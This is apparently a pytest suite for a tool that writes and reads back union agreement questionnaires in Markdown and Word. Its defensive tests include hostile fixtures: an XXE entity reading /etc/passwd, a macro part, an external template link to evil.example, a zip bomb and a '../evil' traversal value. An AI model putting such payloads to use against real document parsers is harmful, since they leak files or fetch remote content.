"""The questionnaire: what stands on it, what comes back in Markdown, Word and from LibreOffice; and hostile files."""

from __future__ import annotations

import io
import re
import shutil
import subprocess
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path

import pytest
from lxml import etree

from agreementkit import ConfigError
from agreementkit.asking import Answers, Plan
from agreementkit.asking.paper.agreed import settle
from agreementkit.asking.paper.files import read_into, write_questionnaire
from agreementkit.asking.paper.returned import MOST_BYTES, Filled, read_questionnaire
from agreementkit.asking.paper.sheet import COLUMNS, make_sheet
from agreementkit.asking.paper.word import WRITE_HERE
from agreementkit.bank import Bank
from agreementkit.diagnostics import Place, Severity
from agreementkit.writers.word.markup import W14, W, w

SOFFICE = shutil.which("soffice")
MakePlan = Callable[..., Plan]
BOX = f"{w('sdtPr')}/{{{W14}}}checkbox/{{{W14}}}checked"
# By setting: what each side and the last column say. A tuple in a column ticks boxes.
FILLED: Mapping[str, tuple[object, object, object]] = {
    "employers": ("", "", "Anytown ICB"),
    "unions": ("UNISON, RCN", "unison, rcn", ""),
    "agreements": ((), (), ("Partnership Agreement", "Trade Union Recognition Agreement")),
    "nation": (("Wales",), ("Wales",), ()),
    "recognition.degree": ((), ("full bargaining",), ()),
    "forum.name": ("", "", "The Table & <Bench>"),
    "time_off.basis": (("pool",), ("pool",), ()),
    "time_off.pool_hours": ("1,200", "1200 hours a year", ""),
    "consultation.days": ("28", "42 calendar days", ""),
    "disputes.status_quo": ((), (), ("full", "none")),
    "dates.commencement": ("", "", "1 December 2026"),
    "forum.meetings_a_year": ("", "", "lots"),
    "forum.quorum_employer": ("", "", "40"),
    "forum.negotiates": (("no",), ("no",), ()),
}


def write(path: Path, bank: Bank, answers: Answers | None = None) -> Path:
    write_questionnaire(path, answers or Answers(), bank)
    return path


def fill_markdown(path: Path) -> None:
    out: list[str] = []
    row: tuple[object, ...] = ()
    for line in path.read_text(encoding="utf-8").splitlines():
        named = re.match(r"\| `(.+?)` \|", line)
        row = FILLED.get(named[1], ()) if named else row if line.startswith("|") else ()
        if row and not named and "---" not in line:
            words = line.split("|")[1].strip()
            cells = [("[x]" if words in one else "[ ]") if isinstance(one, tuple) else str(one) for one in row]
            line = f"| {words} | {' | '.join(cells)} |"
        out.append(line)
    path.write_text("\n".join(out), encoding="utf-8")


def main_part(path: Path) -> etree._Element:
    with zipfile.ZipFile(path) as archive:
        return etree.fromstring(archive.read("word/document.xml"))


def put_back(path: Path, root: etree._Element, **more: bytes) -> None:
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    parts["word/document.xml"] = etree.tostring(root, xml_declaration=True, encoding="UTF-8", standalone=True)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in {**parts, **more}.items():
            archive.writestr(name, content)


def fill_word(path: Path, *, controls: bool = True) -> None:
    """Type into the fields and tick the boxes; without `controls`, as an editor does that has thrown them away."""
    root = main_part(path)
    for table in root.iter(w("tbl")):
        rows = list(table.iter(w("tr")))
        row = FILLED.get("".join(next(rows[0].iter(w("tc"))).itertext()).strip(), ())
        for line in rows[1:] if row else ():
            cells = list(line.iter(w("tc")))
            words = "".join(next(cells[0].iter(w("p"))).itertext())
            for cell, said in zip(cells[1:], row, strict=True):
                text = ("☒" if words in said else "☐") if isinstance(said, tuple) else str(said) or WRITE_HERE
                _type(cell, text)
    if not controls:
        for control in list(root.iter(w("sdt"))):
            parent, content = control.getparent(), control.find(w("sdtContent"))
            assert parent is not None
            assert content is not None
            for one in list(content):
                control.addprevious(one)
            parent.remove(control)
    put_back(path, root)


def _type(cell: etree._Element, text: str) -> None:
    control = next(cell.iter(w("sdt")))
    checked = control.find(BOX)
    if checked is not None:
        checked.set(f"{{{W14}}}val", str(int(text == "☒")))
    waiting = control.find(f"{w('sdtPr')}/{w('showingPlcHdr')}")
    if waiting is not None and text != WRITE_HERE:
        control.find(w("sdtPr")).remove(waiting)  # type: ignore[union-attr]
    next(control.iter(w("t"))).text = text


def check(answers: Answers, bank: Bank, path: Path) -> None:
    """The answers that FILLED gives, the differences that it has, and its mistakes."""
    settled = read_into(path, answers, bank)
    data = answers.data
    assert data["employers"] == [{"name": "Anytown ICB", "kind": "icb"}]
    assert data["unions"] == ["unison", "rcn"]
    assert data["agreements"] == ["partnership", "recognition"]
    assert data["nation"] == "wales"
    assert data["forum"] == {"name": "The Table & <Bench>", "negotiates": False}
    assert data["time_off"] == {"basis": "pool", "pool_hours": 1200}
    assert data["dates"] == {"commencement": "2026-12-01"}
    assert not {"disputes", "consultation", "recognition"} & set(data)
    assert {(one.path, one.employer, one.staff_side) for one in settled.differences} == {
        ("recognition.degree", "", "full-bargaining"),
        ("consultation.days", "28", "42"),
    }
    found = {(one.path, one.code) for one in settled.problems}
    assert found == {
        ("recognition.degree", "AK765"),
        ("consultation.days", "AK765"),
        ("disputes.status_quo", "AK766"),
        ("forum.meetings_a_year", "AK764"),
        ("forum.quorum_employer", "AK764"),
    }
    assert all(one.hints and one.place for one in settled.problems)
    assert {one.code for one in settled.problems if one.severity is Severity.WARNING} == {"AK765"}
    assert settled.remarks["consultation.days"] == ["Not agreed: the employer side wants 28, the staff side 42."]


def test_markdown_goes_out_and_comes_back(bank: Bank, tmp_path: Path) -> None:
    path = write(tmp_path / "q.md", bank)
    fill_markdown(path)
    answers = Answers()
    check(answers, bank, path)
    places = {one.path: one.place.line for one in read_questionnaire(path)}
    assert path.read_text(encoding="utf-8").splitlines()[places["unions"] - 1].startswith("| `unions` |")


@pytest.mark.parametrize("controls", [True, False], ids=["fields", "fields thrown away"])
def test_word_goes_out_and_comes_back(bank: Bank, tmp_path: Path, controls: bool) -> None:
    path = write(tmp_path / "q.docx", bank)
    fill_word(path, controls=controls)
    check(Answers(), bank, path)


@pytest.mark.libreoffice
@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice is not installed")
def test_word_comes_back_from_libreoffice(bank: Bank, tmp_path: Path) -> None:
    path = write(tmp_path / "q.docx", bank)
    fill_word(path)
    home = f"-env:UserInstallation=file://{tmp_path / 'home'}"
    out = tmp_path / "out"
    command = [
        str(SOFFICE),
        home,
        "--headless",
        "--convert-to",
        "docx:MS Word 2007 XML",
        "--outdir",
        str(out),
        str(path),
    ]
    subprocess.run(command, check=True, capture_output=True, timeout=240)
    check(Answers(), bank, out / "q.docx")


@pytest.mark.parametrize("ending", ["md", "docx"])
def test_an_empty_paper_settles_nothing(bank: Bank, tmp_path: Path, ending: str) -> None:
    path = write(tmp_path / f"q.{ending}", bank)
    answers = Answers()
    settled = read_into(path, answers, bank)
    assert (answers.data, settled.answered, settled.differences, settled.problems) == ({}, {}, [], [])


@pytest.mark.parametrize("ending", ["md", "docx"])
def test_what_is_answered_already_stands_as_agreed(bank: Bank, plan: MakePlan, tmp_path: Path, ending: str) -> None:
    given = plan(
        time_off={"basis": "release", "release_posts": [{"role": "Chair", "hours_a_week": 22}]},
        forum={"negotiates": False, "name": "A | B"},
    ).answers
    path = write(tmp_path / f"q.{ending}", bank, given)
    answers = Answers()
    read_into(path, answers, bank)
    assert answers.data["time_off"] == given.data["time_off"]
    assert answers.data["forum"] == given.data["forum"]
    assert answers.data["employers"][0] == given.data["employers"][0]
    assert answers.data["unions"] == ["unison", "rcn"]


def test_paper_is_the_same_every_time(bank: Bank, tmp_path: Path) -> None:
    for ending in ("md", "docx"):
        first, second = write(tmp_path / f"a.{ending}", bank), write(tmp_path / f"b.{ending}", bank)
        assert first.read_bytes() == second.read_bytes()


def test_follow_ups_say_when_they_are_to_be_answered(plan: MakePlan) -> None:
    sheet = make_sheet(plan(), short=True)
    assert len(sheet.parts) == 1
    entries = {entry.question.path: entry for entry in sheet.parts[0].entries}
    number = entries["time_off.basis"].number
    assert entries["time_off.pool_hours"].only_if == f"Only if question {number} is answered: pool."
    assert not entries["time_off.basis"].only_if
    assert [entry.number for entry in entries.values()] == list(range(1, len(entries) + 1))


def test_small_points_are_for_those_who_ask_for_everything(plan: MakePlan) -> None:
    def count(**options: bool) -> int:
        return sum(len(part.entries) for part in make_sheet(plan(), **options).parts)

    assert 12 < count(short=True) < 30 < count() < count(everything=True)


def test_word_fields_have_names_tags_and_ids_of_their_own(bank: Bank, tmp_path: Path) -> None:
    root = main_part(write(tmp_path / "q.docx", bank))
    controls = list(root.iter(w("sdt")))
    tags = [one.find(f"{w('sdtPr')}/{w('tag')}").get(w("val")) for one in controls]  # type: ignore[union-attr]
    ids = [one.find(f"{w('sdtPr')}/{w('id')}").get(w("val")) for one in controls]  # type: ignore[union-attr]
    assert len(set(tags)) == len(tags) == len(set(ids)) > 900
    assert "ak:time_off.basis#e1" in tags
    assert all(len(mark or "") <= 64 for mark in tags)
    for table in root.iter(w("tbl")):
        rows = list(table.iter(w("tr")))
        assert rows[0].find(f"{w('trPr')}/{w('tblHeader')}") is not None
        assert table.find(f"{w('tblPr')}/{w('tblCaption')}").get(w("val"))  # type: ignore[union-attr]
        heads = ["".join(cell.itertext()) for cell in rows[0].iter(w("tc"))]
        assert heads[1:] == list(COLUMNS)
    left = [text for text in root.itertext() if "AK_" in text or "{{" in text]
    assert not left


def test_tracked_changes_count_as_they_would_be_accepted(bank: Bank, tmp_path: Path) -> None:
    path = write(tmp_path / "q.docx", bank)
    fill_word(path)
    root = main_part(path)
    control = next(one for one in root.iter(w("sdt")) if (mark := one.find(f"{w('sdtPr')}/{w('tag')}")) is not None
                   and mark.get(w("val")) == "ak:forum.name#a")  # fmt: skip
    old = next(control.iter(w("r")))
    struck = etree.fromstring(
        f'<w:x xmlns:w="{W}"><w:del w:id="1" w:author="A"><w:r><w:delText>The Table</w:delText></w:r>'
        '</w:del><w:ins w:id="2" w:author="A"><w:r><w:t>The Round Table</w:t></w:r></w:ins></w:x>'
    )
    for one in struck:
        old.addprevious(one)
    old.getparent().remove(old)  # type: ignore[union-attr]
    put_back(path, root)
    answers = Answers()
    read_into(path, answers, bank)
    assert answers.get("forum.name") == "The Round Table"


# ------------------------------------------------------------------------------------------------ what is refused


def test_what_is_no_questionnaire_is_refused(tmp_path: Path) -> None:
    def code(name: str, content: bytes) -> str:
        path = tmp_path / name
        path.write_bytes(content)
        with pytest.raises(ConfigError) as caught:
            read_questionnaire(path)
        assert all(one.hints and one.place for one in caught.value.diagnostics)
        assert "template" not in str(caught.value)
        return caught.value.diagnostics[0].code

    assert code("a.md", b"# Nothing\n\n| a | b |\n| --- | --- |\n") == "AK763"
    assert code("a.txt", b"") == "AK767"
    assert code("a.docx", b"no zip") == "AK768"
    assert code("b.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1") == "AK768"
    assert code("c.docx", b"PK" + b"x" * MOST_BYTES) == "AK768"
    assert code("a.md", b"\xff\xfe") == "AK102"
    with pytest.raises(ConfigError, match="AK768"):
        read_questionnaire(tmp_path / "missing.docx")
    with pytest.raises(ConfigError, match="AK100"):
        read_questionnaire(tmp_path / "missing.md")


DOCTYPE = (
    b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    b'<w:document xmlns:w="u">&x;</w:document>'
)
LINK = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="r" Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/>'
    b"</Relationships>"
)


@pytest.mark.parametrize(
    ("name", "content", "said"),
    [
        ("word/document.xml", DOCTYPE, "not sound XML"),
        ("word/vbaProject.bin", b"x", "macros"),
        ("word/_rels/settings.xml.rels", LINK, "fetches something from outside"),
        ("word/media/bomb.bin", b"\0" * 60_000_000, "unpacks to"),
    ],
)
def test_hostile_word_files_are_refused(bank: Bank, tmp_path: Path, name: str, content: bytes, said: str) -> None:
    path = write(tmp_path / "q.docx", bank)
    with zipfile.ZipFile(path) as archive:
        parts = {one: archive.read(one) for one in archive.namelist()}
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as archive:
        for one, data in {**parts, name: content}.items():
            archive.writestr(one, data)
    path.write_bytes(held.getvalue())
    with pytest.raises(ConfigError, match=said) as caught:
        read_questionnaire(path)
    assert {one.code for one in caught.value.diagnostics} == {"AK768"}


@pytest.mark.parametrize("path", ["packs", "checks.accept", "no.such.setting", "employers[0].name"])
def test_settings_that_no_question_asks_for_are_not_taken_from_a_paper(bank: Bank, path: str) -> None:
    answers = Answers({"employers": [{"name": "A"}], "unions": ["unison"]})
    filled = Filled(path, Place("q.md"), written=["", "", "../evil"])
    settled = settle(answers, bank, [filled])
    assert [one.code for one in settled.problems] == ["AK764"]
    assert set(answers.data) == {"employers", "unions"}
    assert answers.data["employers"] == [{"name": "A"}]


def test_answers_about_employers_that_are_not_agreed_have_to_wait(bank: Bank) -> None:
    settled = settle(Answers(), bank, [Filled("employers[0].short", Place("q.md"), written=["", "", "the ICB"])])
    assert "not agreed yet" in settled.problems[0].message


def test_a_bar_too_many_in_markdown_does_no_harm(bank: Bank, tmp_path: Path) -> None:
    path = tmp_path / "q.md"
    path.write_text(
        "| `time_off.release_posts` | Employer side | Staff side | Agreed |\n| --- | --- | --- | --- |\n"
        "| Answer | Chair \\| 22 | Chair \\| 22 | |\n\n| `forum.name` | a | b | c |\n| Answer | x | x |\n",
        encoding="utf-8",
    )
    answers = Answers()
    settled = read_into(path, answers, bank)
    assert not settled.problems
    assert answers.data == {
        "time_off": {"release_posts": [{"role": "Chair", "hours_a_week": 22}]},
        "forum": {"name": "x"},
    }
